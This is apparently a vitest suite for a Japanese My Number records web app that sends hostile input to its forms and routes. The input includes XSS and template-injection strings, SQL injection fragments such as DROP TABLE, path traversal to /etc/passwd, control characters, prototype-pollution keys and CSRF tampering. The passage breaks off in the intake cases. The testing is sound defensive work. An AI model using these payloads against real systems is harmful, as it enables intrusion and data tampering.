/**
 * Hostile and malformed input, table-driven, against every form, the person
 * list, person ids, self-intake and the CSV upload. For each case: never a 5xx,
 * a Japanese message (no stack trace), anything rendered back is HTML-escaped,
 * rejected requests store nothing (row counts before/after), and no response
 * ever carries a My Number used in the test.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyChain } from '../../src/audit/verify.js';
import type { Actor } from '../../src/domain/audit-events.js';
import { corporateNumberCheckDigit } from '../../src/domain/corporate-number.js';
import { fixedClock } from '../../src/domain/ports.js';
import { purposeCodesFor } from '../../src/domain/purposes.js';
import { Secret } from '../../src/domain/secret.js';
import { initDevVault } from '../../src/services/init-vault.js';
import { issueIntakeCode, recordIntake } from '../../src/services/intake.js';
import { registerPerson } from '../../src/services/persons.js';
import type { Vault } from '../../src/services/vault.js';
import { TEST_PIN_COST } from '../../src/vault/slots.js';
import { syntheticNumber } from '../helpers/numbers.js';
import { ADMIN } from '../helpers/vault.js';
import { addStaff, AUDITOR, Browser, HANDLER, testApp } from '../helpers/web.js';
import { ALL_PURPOSES_QUERY, codeForm, defaultCodePurposes } from '../helpers/purposes.js';

type Res = request.Response;
type Form = Record<string, string | string[]>;
type Who = 'handler' | 'admin' | 'anon' | 'self';

const TABLES = ['persons', 'person_numbers', 'identity_checks', 'users', 'audit_events', 'key_slots', 'intake_codes', 'sessions'] as const;
type Table = (typeof TABLES)[number];
type Counts = Record<Table, number>;

interface Case {
  name: string;
  who: Who;
  /** A fresh person for this case (created before the counts are taken); its id goes to send. */
  setup?: () => number;
  send: (b: Browser, id: number) => Promise<Res>;
  /** Allowed statuses. A status below 400 means the value was legitimately accepted. */
  status: number | number[];
  /** For a refusal: the Japanese message expected among the page's messages. */
  message?: RegExp;
  /** The hostile text: wherever a page renders it back, it must be HTML-escaped. */
  payload?: string;
  /** The re-rendered page must show the escaped payload (a form keeps what was typed). */
  echoed?: boolean;
  /** Row count changes when accepted; every other table must stay the same. */
  delta?: Partial<Counts>;
  /** A refusal that is still audited (failed sign-in, wrong PIN): audit_events may grow in this range. */
  auditRange?: [number, number];
  /** More checks after an accepted request. */
  after?: (b: Browser, res: Res, id: number) => Promise<void>;
}

// ---------------------------------------------------------------------------
// Values

const XSS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(document.cookie)",
  '<svg onload=alert(1)>',
  '<%= 7*7 %>',
  '${7*7}',
  '{{7*7}}',
  '<a href="javascript:alert(1)">x</a>',
  "'><iframe src=//evil.example/></iframe>",
] as const;
const SQL = ["' OR 1=1 --", '"; DROP TABLE persons; --', "Robert'); DROP TABLE persons;--"] as const;
const NUL = '\u0000';
const RLO = '\u202E';
const LONG_1K = 'あ'.repeat(1000);
const LONG_100K = 'x'.repeat(100_000);
const LONG_100K_JA = '山'.repeat(12_000); // 108 KB once percent-encoded

const JAPANESE = /[\u3040-\u30ff\u4e00-\u9fff]/u;
const EMP_PURPOSES = purposeCodesFor('employee');

/** Every 12-digit (or 11-digit) number string the test sends; none may come back in a body. */
const USED = new Set<string>();
let numberSeq = 0;
function num(): string {
  const n = syntheticNumber(++numberSeq, 3);
  USED.add(n);
  return n;
}
function wrongCheck(): string {
  const n = num();
  const bad = n.slice(0, 11) + String((Number(n[11]) + 1) % 10);
  USED.add(bad);
  return bad;
}
function elevenDigits(): string {
  const n = num().slice(0, 11);
  USED.add(n);
  return n;
}
const grouped = (n: string) => `${n.slice(0, 4)} ${n.slice(4, 8)} ${n.slice(8)}`;

function corporate(base12: string): string {
  return String(corporateNumberCheckDigit(base12)) + base12;
}

let codeSeq = 0;
const uniq = (prefix: string) => `${prefix}${++codeSeq}`;

const esc = (s: string) => s.replace(/[&<>"']/gu, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&#34;', "'": '&#39;' })[c]!);
const decode = (s: string) =>
  s.replace(/&(lt|gt|amp|#34|#39|quot);/gu, (_m, e: string) => ({ lt: '<', gt: '>', amp: '&', '#34': '"', '#39': "'", quot: '"' })[e]!);

// ---------------------------------------------------------------------------
// The vault, the app and the signed-in browsers (one vault for the whole file)

let vault: Vault;
let dataRoot: string;
let app: ReturnType<typeof testApp>;
let actor: Actor;
const browsers = {} as Record<Who, Browser>;
const ids = {
  editEmp: 0,
  retireEmp: 0,
  supporterEmp: 0,
  dependant: 0,
  payee: 0,
  corpPayee: 0,
  heldEmp: 0,
  selfEmp: 0,
  selfDep: 0,
};
let heldNumber = '';
let selfCode = '';
let dupCode = '';
let auditorId = '';
const RETIRE_CODE = 'E-RETIRE';
const SELF_NAME = '<script>alert("self")</script> 本人';

function counts(): Counts {
  const out = {} as Counts;
  for (const t of TABLES) out[t] = vault.db.prepare(`SELECT count(*) FROM ${t}`).pluck().get() as number;
  return out;
}

function person(form: Record<string, string>, supporterId: number | null = null): number {
  return registerPerson(vault, actor, form, supporterId, null);
}

function freshEmployee(): number {
  return person({ kind: 'employee', code: uniq('F'), name: '試験 太郎', kana: 'シケン タロウ' });
}

beforeAll(async () => {
  dataRoot = mkdtempSync(join(tmpdir(), 'mnvault-hostile-'));
  const init = await initDevVault({
    dataDir: join(dataRoot, 'data'),
    admin: { login: ADMIN.login, password: new Secret(ADMIN.password), pin: new Secret(ADMIN.pin) },
    clock: fixedClock('2026-04-01T00:00:00Z'),
    pinCost: TEST_PIN_COST,
  });
  vault = init.vault;
  await addStaff(vault);
  const admin = vault.users.byLogin(ADMIN.login)!;
  actor = { id: admin.id, name: admin.displayName };
  auditorId = vault.users.byLogin(AUDITOR.login)!.id;

  ids.editEmp = person({ kind: 'employee', code: 'E-EDIT', name: '編集 太郎', kana: 'ヘンシュウ タロウ' });
  ids.retireEmp = person({ kind: 'employee', code: RETIRE_CODE, name: '退職 太郎', kana: 'タイショク タロウ' });
  ids.supporterEmp = person({ kind: 'employee', code: 'E-SUP', name: '扶養 太郎', kana: 'フヨウ タロウ' });
  ids.dependant = person({ name: '扶養 花子', relationship: '配偶者' }, ids.supporterEmp);
  ids.payee = person({ kind: 'payee', code: 'P-1', name: '支払 一郎' });
  ids.corpPayee = person({ kind: 'payee', code: 'P-CORP', name: '株式会社テスト', corporateNumber: corporate('234567890123') });
  ids.heldEmp = person({ kind: 'employee', code: 'E-HELD', name: '登録 済子' });
  heldNumber = num();
  recordIntake(vault, actor, ids.heldEmp, { purposes: EMP_PURPOSES, number: heldNumber, identity: { method: 'in_person', numberDocument: 'my_number_card', identityDocuments: [], checkedOn: '2026-03-31' } }, null);
  ids.selfEmp = person({ kind: 'employee', code: 'E-SELF', name: SELF_NAME });
  ids.selfDep = person({ name: '本人 家族', relationship: '子' }, ids.selfEmp);

  app = testApp(vault);
  browsers.handler = new Browser(app);
  expect((await browsers.handler.signIn(HANDLER.login, HANDLER.password)).status).toBe(303);
  browsers.admin = new Browser(app);
  expect((await browsers.admin.signIn(ADMIN.login, ADMIN.password)).status).toBe(303);
  // The sign-in answer is a redirect: take the session's CSRF token from a page, as a browser would.
  expect((await browsers.handler.get('/')).status).toBe(200);
  expect((await browsers.admin.get('/')).status).toBe(200);
  browsers.anon = new Browser(app);
  expect((await browsers.anon.get('/login')).status).toBe(200);

  // A self-intake code issued through the page, as a handler would.
  await browsers.handler.get(`/persons/${ids.selfEmp}`);
  const slip = await browsers.handler.post(`/persons/${ids.selfEmp}/intake-codes`, codeForm(vault, ids.selfEmp));
  expect(slip.status).toBe(200);
  selfCode = /<p class="code">([A-Z0-9-]+)<\/p>/u.exec(slip.text)![1]!;
  browsers.self = new Browser(app);
  const form = await browsers.self.get(`/intake?code=${encodeURIComponent(selfCode)}`);
  expect(form.status).toBe(200);
  expect(form.text).toContain(esc('<script>alert("self")</script>'));
}, 60_000);

afterAll(() => {
  vault?.close();
  if (dataRoot) rmSync(dataRoot, { recursive: true, force: true });
});

// ---------------------------------------------------------------------------
// Checks shared by every case

function messagesOf(res: Res): string[] {
  if (/json/u.test(res.type)) {
    const body = res.body as { errors?: { message: string }[]; message?: string };
    return [...(body.errors ?? []).map((e) => e.message), ...(body.message ? [body.message] : [])];
  }
  return [...res.text.matchAll(/class="(?:error-message|field-error|form-error)"[^>]*>([^<]*)</gu)].map((m) => decode(m[1]!));
}

/** What every body must satisfy, whatever the status. */
function expectSafeBody(res: Res, payload?: string): void {
  const text = res.text ?? '';
  expect(text, 'no stack trace').not.toMatch(/\n\s+at [^\n]*:\d+:\d+/u);
  expect(text, 'no Node error prefix').not.toMatch(/\b[A-Za-z]*Error: /u);
  for (const n of USED) {
    expect(text.includes(n), `a My Number used in the test (${n.length} digits) appears in the body`).toBe(false);
    if (n.length === 12) expect(text.includes(grouped(n)), 'a grouped My Number appears in the body').toBe(false);
  }
  if (/html/u.test(res.type)) {
    for (const m of text.matchAll(/<script\b[^>]*>/giu)) expect(m[0]).toMatch(/^<script src="\/static\/[a-z-]+\.js" defer>$/u);
    expect(text).not.toMatch(/<(?:img|svg|a|iframe|body|div)\b[^>]*\son[a-z]+\s*=/iu);
    expect(text).not.toMatch(/<iframe/iu);
    expect(text).not.toMatch(/href\s*=\s*["']?\s*javascript:/iu);
    expect(text).not.toMatch(/<%|%>/u);
    if (payload !== undefined && /[<>"'&]/u.test(payload)) {
      expect(text.includes(payload), 'the payload appears unescaped').toBe(false);
    }
  }
}

/** A page shows the stored value escaped, and not raw. */
function expectEscaped(html: string, value: string): void {
  expect(html).toContain(esc(value));
  if (esc(value) !== value) expect(html).not.toContain(value);
}

async function page(b: Browser, path: string, payload?: string): Promise<Res> {
  const res = await b.get(path);
  expect(res.status, `GET ${path}`).toBe(200);
  expect(res.text).toMatch(JAPANESE);
  expectSafeBody(res, payload);
  return res;
}

const nameOf = (id: number) => vault.db.prepare('SELECT name FROM persons WHERE id = ?').pluck().get(id) as string;
const lastPersonId = () => vault.db.prepare('SELECT max(id) FROM persons').pluck().get() as number;
const idFrom = (res: Res) => Number(/^\/persons\/(\d+)$/u.exec(res.headers.location ?? '')?.[1]);

/** An accepted name: stored as typed (NFKC), and escaped on its own page and in the list. */
async function expectPersonShown(b: Browser, id: number, stored: string): Promise<void> {
  expect(nameOf(id)).toBe(stored);
  const show = await page(b, `/persons/${id}`, stored);
  expectEscaped(show.text, stored);
  const list = await page(b, `/persons?q=${encodeURIComponent(stored.slice(0, 100))}`, stored);
  expect(list.text).toContain(`href="/persons/${id}"`);
  expectEscaped(list.text, stored);
}

function runCase(c: Case): void {
  it(c.name, async () => {
    const b = browsers[c.who];
    const id = c.setup ? c.setup() : 0;
    const before = counts();
    const res = await c.send(b, id);
    expect(res.status, `never 5xx (${res.status}: ${messagesOf(res).join(' / ') || (res.text ?? '').slice(0, 200)})`).toBeLessThan(500);
    expect.soft([c.status].flat(), `status ${res.status}: ${messagesOf(res).join(' / ')}`).toContain(res.status);
    expectSafeBody(res, c.payload);
    const accepted = res.status < 400;
    if (!accepted) {
      const messages = messagesOf(res);
      expect(messages.length, 'a message explains the refusal').toBeGreaterThan(0);
      for (const m of messages) expect(m).toMatch(JAPANESE);
      if (c.message) expect(messages.join('\n')).toMatch(c.message);
    } else if (res.status >= 300) {
      const location = res.headers.location as string;
      expect(location).toMatch(/^\//u);
      await page(b, location, c.payload);
    } else if (/json/u.test(res.type)) {
      // A committed import answers with counts only; the page's script words it from data-* labels.
      expect(res.body).toMatchObject({ committed: true, errors: [] });
    } else {
      expect(res.text).toMatch(JAPANESE);
    }
    if (c.echoed && c.payload !== undefined) expectEscaped(res.text, c.payload);
    const after = counts();
    for (const t of TABLES) {
      const change = after[t] - before[t];
      if (!accepted && t === 'audit_events' && c.auditRange) {
        expect(change, 'audit events of a refusal').toBeGreaterThanOrEqual(c.auditRange[0]);
        expect(change, 'audit events of a refusal').toBeLessThanOrEqual(c.auditRange[1]);
      } else {
        expect.soft(change, `rows added to ${t}`).toBe(accepted ? (c.delta?.[t] ?? 0) : 0);
      }
    }
    if (accepted && c.after) await c.after(b, res, id);
  });
}

// ---------------------------------------------------------------------------
// Case builders

const post = (path: string | ((id: number) => string), form: (id: number) => Form, csrf?: string | null) => (b: Browser, id: number) =>
  b.post(typeof path === 'string' ? path : path(id), form(id), csrf === undefined ? b.csrf : csrf);
const get = (path: string | ((id: number) => string)) => (b: Browser, id: number) => b.get(typeof path === 'string' ? path : path(id));

/** A body the forms do not expect (JSON), with a valid CSRF header so it reaches the route. */
const postJson = (path: string, body: unknown) => (b: Browser) =>
  request(app).post(path).set('Cookie', b.cookieHeader()).set('X-CSRF-Token', b.csrf).set('Content-Type', 'application/json').send(JSON.stringify(body));

const ADDED_PERSON = { persons: 1, audit_events: 1 };

const newPerson = (over: Form = {}): Form => ({ kind: 'employee', code: uniq('N'), name: '試験 一郎', kana: 'シケン イチロウ', birthDate: '1990-04-01', ...over });
const newPayee = (over: Form = {}): Form => ({ kind: 'payee', code: uniq('PAY'), name: '支払 次郎', ...over });

function acceptedName(label: string, value: string, stored = value.normalize('NFKC').replace(/\s+/gu, ' ').trim()): Case {
  return {
    name: `POST /persons accepts ${label} as a name and shows it escaped`,
    who: 'handler',
    send: post('/persons', () => newPerson({ name: value })),
    status: 303,
    payload: value,
    delta: ADDED_PERSON,
    after: (b, res) => expectPersonShown(b, idFrom(res), stored),
  };
}

function refusedPerson(label: string, form: () => Form, message?: RegExp, opts: Partial<Case> = {}): Case {
  return { name: `POST /persons refuses ${label}`, who: 'handler', send: post('/persons', form), status: 400, message, ...opts };
}

const SHAPE = /送信された内容の形式が正しくありません/u;
const TOO_LARGE = /送信されたデータが大きすぎます/u;
const CSRF = /画面の有効期限が切れたか、不正な送信です/u;
const NOT_FOUND = /見つかりません|登録されていません|存在しません/u;
const DATE_MSG = /日付|形で入れてください/u;

// ---------------------------------------------------------------------------
// POST /persons

const personCases: Case[] = [
  ...XSS.map((x) => acceptedName(`the XSS/template payload ${JSON.stringify(x)}`, x)),
  ...SQL.map((x) => acceptedName(`the SQL fragment ${JSON.stringify(x)}`, x)),
  acceptedName('a lone "%"', '%'),
  acceptedName('a lone "_"', '_'),
  acceptedName('backslashes', 'C:\\Windows\\..\\..\\system32 \\\\'),
  acceptedName('emoji', '山田 😀👨‍👩‍👧'),
  acceptedName('a surrogate-pair kanji (𠮷)', '𠮷野 太郎'),
  acceptedName('full-width letters and ideographic space (folded by NFKC)', 'ＡＢＣ　太郎', 'ABC 太郎'),
  refusedPerson('an RTL override (U+202E) in the name', () => newPerson({ name: `${RLO}exe.太郎` }), /氏名に使えない文字/u),
  {
    name: 'POST /persons accepts half-width kana and stores full-width katakana',
    who: 'handler',
    send: post('/persons', () => newPerson({ kana: 'ﾔﾏﾀﾞ ﾀﾛｳ' })),
    status: 303,
    delta: ADDED_PERSON,
    after: async (_b, res) => expect(vault.db.prepare('SELECT kana FROM persons WHERE id = ?').pluck().get(idFrom(res))).toBe('ヤマダ タロウ'),
  },
  {
    name: 'POST /persons accepts a hiragana + half-width kana mix and stores full-width katakana',
    who: 'handler',
    send: post('/persons', () => newPerson({ kana: 'やまだ　ﾀﾛｳ' })),
    status: 303,
    delta: ADDED_PERSON,
    after: async (_b, res) => expect(vault.db.prepare('SELECT kana FROM persons WHERE id = ?').pluck().get(idFrom(res))).toBe('ヤマダ タロウ'),
  },
  {
    name: 'POST /persons accepts an era date (H2.4.1) as 1990-04-01',
    who: 'handler',
    send: post('/persons', () => newPerson({ birthDate: 'H2.4.1' })),
    status: 303,
    delta: ADDED_PERSON,
    after: async (_b, res) => expect(vault.db.prepare('SELECT birth_date FROM persons WHERE id = ?').pluck().get(idFrom(res))).toBe('1990-04-01'),
  },
  {
    name: 'POST /persons ignores mass-assigned fields (status, supporterId, id)',
    who: 'handler',
    send: post('/persons', () => newPerson({ status: 'retired', supporterId: String(ids.supporterEmp), id: '1', retiredOn: '2020-01-01' })),
    status: 303,
    delta: ADDED_PERSON,
    after: async (_b, res) => {
      const row = vault.db.prepare('SELECT id, status, supporter_id, retired_on FROM persons WHERE id = ?').get(idFrom(res)) as Record<string, unknown>;
      expect(row).toEqual({ id: idFrom(res), status: 'active', supporter_id: null, retired_on: null });
      expect(idFrom(res)).not.toBe(1);
    },
  },
  refusedPerson('a 1,000-character name (over the field limit)', () => newPerson({ name: LONG_1K }), SHAPE),
  refusedPerson('a 101-character name', () => newPerson({ name: '山'.repeat(101) }), /氏名が長すぎます/u),
  refusedPerson('a 100,000-character name (body limit → 413)', () => newPerson({ name: LONG_100K }), TOO_LARGE, { status: 413 }),
  refusedPerson('a 108 KB body of kanji (body limit → 413)', () => newPerson({ name: LONG_100K_JA }), TOO_LARGE, { status: 413 }),
  refusedPerson('a NUL byte in the name', () => newPerson({ name: `山田${NUL}太郎` }), /制御文字/u),
  refusedPerson('a tab in the name', () => newPerson({ name: '山田\t太郎' }), /制御文字/u),
  refusedPerson('CR LF in the name', () => newPerson({ name: '山田\r\n太郎' }), /制御文字/u),
  refusedPerson('a BEL (U+0007) in the name', () => newPerson({ name: '山田\u0007太郎' }), /制御文字/u),
  refusedPerson('a DEL (U+007F) in the name', () => newPerson({ name: '山田\u007f太郎' }), /制御文字/u),
  refusedPerson('a line separator (U+2028) in the name', () => newPerson({ name: '山田\u2028太郎' }), /制御文字/u),
  refusedPerson('a name of ideographic spaces only', () => newPerson({ name: '　　　' }), /氏名が空/u),
  refusedPerson('the name field repeated (array)', () => newPerson({ name: ['山田 太郎', '<script>alert(1)</script>'] }), SHAPE),
  refusedPerson('name[$ne] instead of name (operator injection)', () => {
    const f = newPerson();
    delete f.name;
    return { ...f, 'name[$ne]': 'x' };
  }, /氏名が空/u),
  refusedPerson('the kind "admin"', () => newPerson({ kind: 'admin' }), /種別/u),
  refusedPerson('the kind "dependant" (only from an employee page)', () => newPerson({ kind: 'dependant' }), /扶養親族/u),
  refusedPerson('an XSS kind', () => newPerson({ kind: '<script>alert(1)</script>' }), /種別|形式が正しくありません/u, { payload: '<script>alert(1)</script>' }),
  refusedPerson('a short XSS kind', () => newPerson({ kind: '<svg onload=x>' }), /種別/u, { payload: '<svg onload=x>' }),
  refusedPerson('the kind "toString"', () => newPerson({ kind: 'toString' }), /種別/u),
  refusedPerson('the kind "__proto__"', () => newPerson({ kind: '__proto__' }), /種別/u),
  refusedPerson('the kind field repeated (array)', () => newPerson({ kind: ['employee', 'payee'] }), SHAPE),
  refusedPerson('an XSS code (re-rendered escaped)', () => newPerson({ code: '"><img src=x onerror=alert(1)>' }), /社員番号/u, {
    payload: '"><img src=x onerror=alert(1)>',
    echoed: true,
  }),
  refusedPerson('an SQL code', () => newPerson({ code: "' OR 1=1 --" }), /社員番号/u, { payload: "' OR 1=1 --", echoed: true }),
  refusedPerson('a code already registered', () => newPerson({ code: RETIRE_CODE }), /既に登録されています/u),
  refusedPerson('a 33-character code', () => newPerson({ code: 'A'.repeat(33) }), /社員番号/u),
  refusedPerson('the code ../etc/passwd', () => newPerson({ code: '../etc/passwd' }), /社員番号/u),
  refusedPerson('a NUL byte in the code', () => newPerson({ code: `E${NUL}1` }), /制御文字/u),
  refusedPerson('the code field repeated (array)', () => newPerson({ code: ['E1', 'E2'] }), SHAPE),
  refusedPerson('Latin letters as kana', () => newPerson({ kana: 'Yamada Taro' }), /フリガナ/u),
  refusedPerson('an XSS kana (re-rendered escaped)', () => newPerson({ kana: '<svg onload=alert(1)>' }), /フリガナ/u, { payload: '<svg onload=alert(1)>', echoed: true }),
  refusedPerson('emoji in the kana', () => newPerson({ kana: 'ヤマダ😀' }), /フリガナ/u),
  refusedPerson('the birth date 2023-02-30', () => newPerson({ birthDate: '2023-02-30' }), /生年月日/u),
  refusedPerson('the birth date 令和99年13月1日', () => newPerson({ birthDate: '令和99年13月1日' }), /生年月日/u),
  refusedPerson('the birth date 0000-00-00', () => newPerson({ birthDate: '0000-00-00' }), /生年月日/u),
  refusedPerson('a birth date in the future', () => newPerson({ birthDate: '2099-01-01' }), /未来/u),
  refusedPerson('an ISO timestamp as birth date', () => newPerson({ birthDate: '1990-04-01T00:00:00Z' }), /生年月日/u),
  refusedPerson('an XSS birth date (echoed escaped)', () => newPerson({ birthDate: '<script>alert(1)</script>' }), /生年月日/u, {
    payload: '<script>alert(1)</script>',
    echoed: true,
  }),
  refusedPerson('a My Number typed into the birth-date field, without echoing it', () => newPerson({ birthDate: num() }), /生年月日/u),
  refusedPerson('a corporate number for an employee', () => newPerson({ corporateNumber: corporate('345678901234') }), /法人番号/u),
  refusedPerson('a 12-digit corporate number', () => newPayee({ corporateNumber: '123456789012' }), /法人番号/u),
  refusedPerson('a corporate number with a wrong check digit', () => {
    const c = corporate('456789012345');
    return newPayee({ corporateNumber: String((Number(c[0]) % 9) + 1) + c.slice(1) });
  }, /チェックデジット/u),
  refusedPerson('a corporate number with letters', () => newPayee({ corporateNumber: '12345678901AB' }), /法人番号/u),
  refusedPerson('an XSS corporate number (re-rendered escaped)', () => newPayee({ corporateNumber: '"><script>alert(1)</script>' }), /法人番号/u, {
    payload: '"><script>alert(1)</script>',
    echoed: true,
  }),
  refusedPerson('a missing CSRF token', () => newPerson(), CSRF, { status: 403, send: post('/persons', () => newPerson(), null) }),
  refusedPerson('a wrong CSRF token', () => newPerson(), CSRF, { status: 403, send: post('/persons', () => ({ ...newPerson(), _csrf: 'x'.repeat(43) }), null) }),
  refusedPerson('the CSRF token repeated (array)', () => newPerson(), CSRF, {
    status: 403,
    send: (b) => b.post('/persons', { _csrf: [b.csrf, b.csrf], ...newPerson() }, null),
  }),
  refusedPerson('a JSON body with an operator object instead of a form', () => ({}), /種別が空|氏名が空/u, {
    send: postJson('/persons', { kind: 'employee', code: 'J1', name: { $ne: null } }),
  }),
  refusedPerson('250 parameters (parameter limit → 413)', () => ({ ...newPerson(), x: Array.from({ length: 250 }, (_, i) => String(i)) }), TOO_LARGE, {
    status: 413,
  }),
];

// ---------------------------------------------------------------------------
// POST /persons/:id/dependants, POST /persons/:id (edit), retire, end-dependant

const dependantForm = (over: Form = {}): Form => ({ name: '扶養 次郎', kana: 'フヨウ ジロウ', relationship: '子', birthDate: '2015-05-05', ...over });
const refusedDependant = (label: string, form: () => Form, message?: RegExp, opts: Partial<Case> = {}): Case => ({
  name: `POST /persons/:id/dependants refuses ${label}`,
  who: 'handler',
  send: post((_) => `/persons/${ids.supporterEmp}/dependants`, form),
  status: 400,
  message,
  ...opts,
});

const dependantCases: Case[] = [
  {
    name: 'POST /persons/:id/dependants accepts an XSS name and shows it escaped (dependant page, supporter page, list)',
    who: 'handler',
    send: post((_) => `/persons/${ids.supporterEmp}/dependants`, () => dependantForm({ name: '<img src=x onerror=alert(1)> 子' })),
    status: 303,
    payload: '<img src=x onerror=alert(1)> 子',
    delta: ADDED_PERSON,
    after: async (b) => {
      const id = lastPersonId();
      await expectPersonShown(b, id, '<img src=x onerror=alert(1)> 子');
      const supporter = await page(b, `/persons/${ids.supporterEmp}`, '<img src=x onerror=alert(1)> 子');
      expectEscaped(supporter.text, '<img src=x onerror=alert(1)> 子');
    },
  },
  refusedDependant('the relationship "toString"', () => dependantForm({ relationship: 'toString' }), /続柄/u),
  refusedDependant('the relationship "__proto__"', () => dependantForm({ relationship: '__proto__' }), /続柄/u),
  refusedDependant('the relationship "boss"', () => dependantForm({ relationship: 'boss' }), /続柄/u),
  refusedDependant('an XSS relationship', () => dependantForm({ relationship: '<script>alert(1)</script>' }), /続柄/u, { payload: '<script>alert(1)</script>' }),
  refusedDependant('the relationship repeated (array)', () => dependantForm({ relationship: ['子', '配偶者'] }), SHAPE),
  refusedDependant('a missing relationship', () => {
    const f = dependantForm();
    delete f.relationship;
    return f;
  }, /続柄/u),
  refusedDependant('a 1,000-character relationship', () => dependantForm({ relationship: LONG_1K }), SHAPE),
  refusedDependant('the birth date 2023-02-30', () => dependantForm({ birthDate: '2023-02-30' }), /生年月日/u),
  refusedDependant('a NUL byte in the name', () => dependantForm({ name: `扶養${NUL}` }), /制御文字/u),
  {
    name: 'POST /persons/:id/dependants refuses a payee as supporter',
    who: 'handler',
    send: post((_) => `/persons/${ids.payee}/dependants`, () => dependantForm()),
    status: 400,
    message: /従業員の下にだけ/u,
  },
  ...['0', '-1', '1e3', '99999999999999999999'].map(
    (bad): Case => ({
      name: `POST /persons/${bad}/dependants is not found`,
      who: 'handler',
      send: post(`/persons/${bad}/dependants`, () => dependantForm()),
      status: 404,
      message: NOT_FOUND,
    }),
  ),
];

const editForm = (over: Form = {}): Form => ({ code: 'E-EDIT', name: '編集 太郎', kana: 'ヘンシュウ タロウ', birthDate: '1980-01-01', ...over });
const editCases: Case[] = [
  {
    name: 'POST /persons/:id (edit) accepts an XSS name and shows it escaped',
    who: 'handler',
    send: post((_) => `/persons/${ids.editEmp}`, () => editForm({ name: '"><svg onload=alert(1)>' })),
    status: 303,
    payload: '"><svg onload=alert(1)>',
    delta: { audit_events: 1 },
    after: (b) => expectPersonShown(b, ids.editEmp, '"><svg onload=alert(1)>'),
  },
  {
    name: 'POST /persons/:id (edit) ignores a posted kind (payee) and keeps the employee',
    who: 'handler',
    send: post((_) => `/persons/${ids.editEmp}`, () => editForm({ kind: 'payee', name: '編集 次郎' })),
    status: 303,
    delta: { audit_events: 1 },
    after: async () => expect(vault.persons.byId(ids.editEmp)!.kind).toBe('employee'),
  },
  ...(
    [
      ['an empty name', { name: '' }, /氏名が空/u, {}],
      ['an XSS kana (echoed escaped)', { kana: '<script>alert(1)</script>' }, /フリガナ/u, { payload: '<script>alert(1)</script>', echoed: true }],
      ['a code taken by another employee', { code: RETIRE_CODE }, /既に登録されています/u, {}],
      ['an XSS code (echoed escaped)', { code: "'><iframe src=//evil.example/></iframe>" }, /社員番号/u, { payload: "'><iframe src=//evil.example/></iframe>", echoed: true }],
      ['the birth date 令和99年13月1日', { birthDate: '令和99年13月1日' }, /生年月日/u, {}],
      ['the code repeated (array)', { code: ['E-EDIT', 'E-X'] }, SHAPE, {}],
      ['a 100,000-character name (413)', { name: LONG_100K }, TOO_LARGE, { status: 413 }],
      ['a NUL byte in the kana', { kana: `ヘン${NUL}` }, /制御文字/u, {}],
    ] as [string, Form, RegExp, Partial<Case>][]
  ).map(
    ([label, over, message, opts]): Case => ({
      name: `POST /persons/:id (edit) refuses ${label}`,
      who: 'handler',
      send: post((_) => `/persons/${ids.editEmp}`, () => editForm(over)),
      status: 400,
      message,
      ...opts,
    }),
  ),
  ...['1e3', '0', '..%2F..%2Fetc%2Fpasswd'].map(
    (bad): Case => ({
      name: `POST /persons/${bad} (edit) is not found`,
      who: 'handler',
      send: post(`/persons/${bad}`, () => editForm()),
      status: 404,
      message: NOT_FOUND,
    }),
  ),
];

const BAD_DATES: [string, string | string[], RegExp][] = [
  ['2023-02-30', '2023-02-30', DATE_MSG],
  ['令和99年13月1日', '令和99年13月1日', DATE_MSG],
  ['0000-00-00', '0000-00-00', DATE_MSG],
  ['an XSS date', '<script>alert(1)</script>', DATE_MSG],
  ['an SQL date', "2025-03-31' OR 1=1 --", DATE_MSG],
  ['an empty date', '', DATE_MSG],
  ['a date with a NUL byte', `2025-03-31${NUL}`, DATE_MSG],
  ['the date repeated (array)', ['2025-03-31', '2025-04-01'], SHAPE],
  ['a 1,000-character date', LONG_1K, SHAPE],
];
const dateCases: Case[] = [
  ...BAD_DATES.map(
    ([label, date, message]): Case => ({
      name: `POST /persons/:id/retire refuses ${label}`,
      who: 'handler',
      send: post((_) => `/persons/${ids.retireEmp}/retire`, () => ({ date })),
      status: 400,
      message,
      payload: typeof date === 'string' ? date : undefined,
    }),
  ),
  ...BAD_DATES.slice(0, 6).map(
    ([label, date, message]): Case => ({
      name: `POST /persons/:id/end-dependant refuses ${label}`,
      who: 'handler',
      send: post((_) => `/persons/${ids.dependant}/end-dependant`, () => ({ date })),
      status: 400,
      message,
      payload: typeof date === 'string' ? date : undefined,
    }),
  ),
  {
    name: 'POST /persons/:id/retire refuses a dependant',
    who: 'handler',
    send: post((_) => `/persons/${ids.dependant}/retire`, () => ({ date: '2025-03-31' })),
    status: 400,
    message: /従業員にだけ/u,
  },
  {
    name: 'POST /persons/:id/end-dependant refuses an employee',
    who: 'handler',
    send: post((_) => `/persons/${ids.retireEmp}/end-dependant`, () => ({ date: '2025-03-31' })),
    status: 400,
    message: /扶養親族にだけ/u,
  },
  ...['-1', '99999999999999999999'].flatMap((bad) =>
    ['retire', 'end-dependant'].map(
      (action): Case => ({
        name: `POST /persons/${bad}/${action} is not found`,
        who: 'handler',
        send: post(`/persons/${bad}/${action}`, () => ({ date: '2025-03-31' })),
        status: 404,
        message: NOT_FOUND,
      }),
    ),
  ),
];

// ---------------------------------------------------------------------------
// POST /persons/:id/intake (each case on a fresh employee without a number)

const intakeForm = (over: Form = {}): Form => ({
  purposes: EMP_PURPOSES,
  number: num(),
  method: 'in_person',
  numberDocument: 'my_number_card',
  checkedOn: '2026-03-31',
  ...over,
});
const intakePath = (id: number) => `/persons/${id}/intake`;
function refusedIntake(label: string, form: () => Form, message?: RegExp, opts: Partial<Case> = {}): Case {
  return { name: `POST /persons/:id/intake refuses ${label}`, who: 'handler', setup: freshEmployee, send: post(intakePath, form), status: 400, message, ...opts };
}
const HELD = { person_numbers: 1, identity_checks: 1, audit_events: 2 };

const intakeCases: Case[] = [
  refusedIntake('an 11-digit number', () => intakeForm({ number: elevenDigits() }), /11桁/u),
  refusedIntake('a 13-digit number', () => intakeForm({ number: `${num()}7` }), /13桁/u),
  refusedIntake('a wrong check digit', () => intakeForm({ number: wrongCheck() }), /チェックデジット/u),
  refusedIntake('a number with a letter O for a zero', () => {
    const n = num();
    return intakeForm({ number: `${n.slice(0, 5)}O${n.slice(6)}` });
  }, /数字以外/u),
